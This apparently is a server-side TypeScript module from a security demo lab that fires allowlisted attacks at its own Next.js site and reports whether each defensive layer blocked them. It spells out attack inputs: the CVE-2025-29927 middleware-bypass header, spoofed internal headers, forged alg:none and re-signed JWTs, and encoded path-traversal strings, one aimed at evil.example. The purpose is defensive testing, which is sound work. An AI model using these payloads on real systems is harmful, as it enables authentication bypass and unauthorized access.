import 'server-only'
import { request as httpRequest } from 'node:http'
import { dotnetApiUrl } from '@/demos/lib/http/api-config'
import { ACCESS_COOKIE } from '@/demos/lib/auth/cookie-options'
import { directUploadAttacks } from './direct-upload-attacks'
import { algNoneCopy, editedPayloadCopy, wrongKeyCopy } from './forge-tokens'
import type { LabAttack, LabOutcome, LabStep } from './lab-attack-names'
import { redactTokens } from './redact-tokens'
import { serverActionFromSibling } from './server-action-origin-attack'

// This site itself, over loopback: never the Host header, which a caller
// controls and could point at another server.
const site = () => `http://127.0.0.1:${process.env.PORT ?? 3000}`

// The internal header of CVE-2025-29927 (every depth and file name Next.js
// has used) and its relatives. Patched Next.js ignores them from outside; the
// DAL would hold even if it did not.
const SUBREQUEST = { 'x-middleware-subrequest': 'proxy:proxy:proxy:proxy:proxy:middleware:middleware:middleware:middleware:middleware' }
const PREFETCH = { 'x-middleware-prefetch': '1', 'x-nextjs-data': '1', 'x-invoke-path': '/demo/account' }

// #region run-lab-attack
/**
 * Runs one allowlisted attack, server side, against the CALLER's own session:
 * the only token used is the one in the caller's cookie. Returns what each
 * layer answered, with every token redacted.
 */
export async function runLabAttack(attack: LabAttack, accessToken: string, clientAddress: string | null = null): Promise<LabOutcome> {
  const steps = await stepsFor(attack, accessToken, clientAddress)
  const redacted = steps.map((step) => ({ ...step, detail: redactTokens(step.detail) }))
  return { attack, blocked: redacted.every((step) => step.blocked), steps: redacted }
}
// #endregion run-lab-attack

async function stepsFor(attack: LabAttack, token: string, clientAddress: string | null): Promise<LabStep[]> {
  switch (attack) {
    case 'middleware-bypass':
      return [
        await pageStep('x-middleware-subrequest, no cookie', SUBREQUEST),
        await pageStep('x-middleware-subrequest, an alg:none copy of your token', { ...SUBREQUEST, cookie: `${ACCESS_COOKIE}=${algNoneCopy(token)}` }),
        await pageStep('x-middleware-prefetch and other internal headers, an alg:none copy', { ...PREFETCH, cookie: `${ACCESS_COOKIE}=${algNoneCopy(token)}` }),
      ]
    case 'alg-none':
      return everyLayer(algNoneCopy(token))
    case 'edited-payload':
      return everyLayer(editedPayloadCopy(token))
    case 'wrong-key':
      return everyLayer(await wrongKeyCopy(token))
    case 'expired-token': {
      // The API's demo endpoint (the token pages' button) makes it treat your token as expired.
      const expired = await fetch(`${dotnetApiUrl()}/api/demo/expire-access-token`, { method: 'POST', headers: { authorization: `Bearer ${token}` } })
      if (expired.status !== 204) return [{ label: 'Expire your token at the API', status: expired.status, blocked: false, detail: 'The API did not expire the token; nothing was tried.' }]
      return everyLayer(token)
    }
    case 'raw-path-traversal':
      return Promise.all(
        ['/api/proxy/goals/..%2f..%2fauth%2flogin', '/api/proxy/goals%2f..%2fusers%2fme', '/api/proxy/goals%5c..%5cauth%5clogin', '/api/proxy/%2F%2Fevil.example/api/goals'].map((path) =>
          rawStep(path, token),
        ),
      )
    case 'server-action-origin':
      return serverActionFromSibling(site(), token)
    case 'direct-uploads':
      return directUploadAttacks(token, clientAddress)
  }
}

/** The same bad token at the API, through the BFF proxy, and to a page the DAL guards. */
async function everyLayer(badToken: string): Promise<LabStep[]> {
  const api = await fetch(`${dotnetApiUrl()}/api/users/me`, { headers: { authorization: `Bearer ${badToken}` } })
  const challenge = api.headers.get('www-authenticate') ?? ''
  const proxied = await fetch(`${site()}/api/proxy/users/me`, { headers: { cookie: `${ACCESS_COOKIE}=${badToken}` } })
  return [
    { label: 'The .NET API, GET /api/users/me', status: api.status, blocked: api.status === 401, detail: challenge || (await api.text()).slice(0, 200) },
    { label: 'The BFF proxy, GET /api/proxy/users/me', status: proxied.status, blocked: proxied.status === 401, detail: proxied.headers.get('www-authenticate') ?? (await problemTitle(proxied)) },
    await pageStep('A protected page, /demo/account (the DAL)', { cookie: `${ACCESS_COOKIE}=${badToken}` }),
  ]
}

async function pageStep(label: string, headers: Record<string, string>): Promise<LabStep> {
  const response = await fetch(`${site()}/demo/account`, { headers, redirect: 'manual' })
  const location = response.headers.get('location') ?? ''
  const by = response.headers.get('x-bff-redirected-by') ? 'proxy.ts' : 'the DAL'
  const body = await response.text()
  // Blocked means no account page: a redirect to sign-in, or (for a spoofed prefetch) Next's empty answer.
  const rendered = body.includes('data-testid="account-email"')
  const detail = rendered
    ? 'The account page rendered.'
    : response.status === 307 && location.startsWith('/demo/login')
      ? `Redirected to sign-in by ${by}.`
      : `Answered ${response.status} without the account page (${body.length} bytes).`
  return { label, status: response.status, blocked: !rendered, detail }
}

/** Sends the path byte for byte: fetch would resolve `%2e%2e` and `\` before sending. */
function rawStep(path: string, token: string): Promise<LabStep> {
  const { hostname, port } = new URL(site())
  return new Promise((resolve) => {
    const req = httpRequest({ hostname, port, path, headers: { cookie: `${ACCESS_COOKIE}=${token}` } }, (res) => {
      let body = ''
      res.setEncoding('utf8')
      res.on('data', (chunk: string) => (body += chunk.length + body.length > 4096 ? '' : chunk))
      res.on('end', () => {
        const status = res.statusCode ?? 0
        const leaked = body.includes('"items"') || body.includes('"email"') || body.includes('accessToken')
        resolve({ label: `GET ${path}`, status, blocked: !leaked && status >= 300, detail: leaked ? 'API data came back.' : 'Refused before the API was called with your token.' })
      })
    })
    req.on('error', () => resolve({ label: `GET ${path}`, status: 0, blocked: false, detail: 'The request failed.' }))
    req.end()
  })
}

async function problemTitle(response: Response): Promise<string> {
  const body = (await response.json().catch(() => null)) as { title?: string } | null
  return body?.title ?? `HTTP ${response.status}`
}
